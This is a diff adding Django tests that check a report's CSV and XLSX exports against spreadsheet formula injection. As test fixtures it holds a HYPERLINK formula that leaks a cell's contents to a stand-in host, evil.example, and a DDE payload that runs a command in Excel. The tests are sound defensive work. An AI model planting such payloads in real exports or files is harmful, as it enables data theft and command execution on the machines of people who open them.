@@ -19,9 +19,10 @@ from pypdf import PdfReader
 from conftest import member_user
 from maillage.accounts.models import User
 from maillage.core.models import AuditEntry
-from maillage.editions.models import Membership
+from maillage.editions.models import Group, Membership
 from maillage.editions.tests.factories import GroupFactory, MembershipFactory
 from maillage.reports.tests.bilan_world import TODAY, World, build
+from maillage.surveys.models import Response
 from maillage.territories.tests.factories import NetworkAdminFactory, ProjectManagerFactory
 
 pytestmark = pytest.mark.django_db
@@ -313,3 +314,50 @@ def test_a_drawn_page_is_shown_to_no_one_who_may_not_read_it(
     ProjectManagerFactory(user=stranger)  # another territory's project manager
     client.force_login(stranger)
     assert client.get(url).status_code == 404
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
+
+
+def _formulas_in_user_text(world: World) -> None:
+    """A participant's quote and a group's name that a spreadsheet would run as formulas."""
+    Response.objects.filter(comment="Enfin des pairs.").update(comment=FORMULA)
+    Group.objects.filter(pk=world.group.pk).update(name="+cmd|' /C calc'!A0")
+
+
+def test_the_csv_neutralises_formulas_in_user_text(
+    client: Any, world: World, manager: User
+) -> None:
+    """Excel runs a cell starting with = + - @ (or a tab, a CR): user text gets a leading
+    apostrophe; figures, negative ones included, stay numbers."""
+    _formulas_in_user_text(world)
+    client.force_login(manager)
+
+    response = client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, "csv"]))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells
+    assert "'+cmd|' /C calc'!A0" in cells
+    values = {(row[0], row[2], row[3]): row[4] for row in rows[1:] if len(row) > 4}
+    assert values[("Évolution", "Variation moyenne de l'isolement", "")] in ("-0.76", "-0,76")
+    unsafe = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    unsafe += [
+        c
+        for c in cells
+        if c.startswith("-") and not c[1:].replace(",", "").replace(".", "").isdigit()
+    ]
+    assert unsafe == []
+
+
+def test_the_xlsx_keeps_user_text_as_text(client: Any, world: World, manager: User) -> None:
+    """openpyxl writes a string starting with "=" as a formula unless told it is text."""
+    _formulas_in_user_text(world)
+    client.force_login(manager)
+
+    response = client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, "xlsx"]))
+
+    workbook = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert FORMULA in [c.value for c in cells]
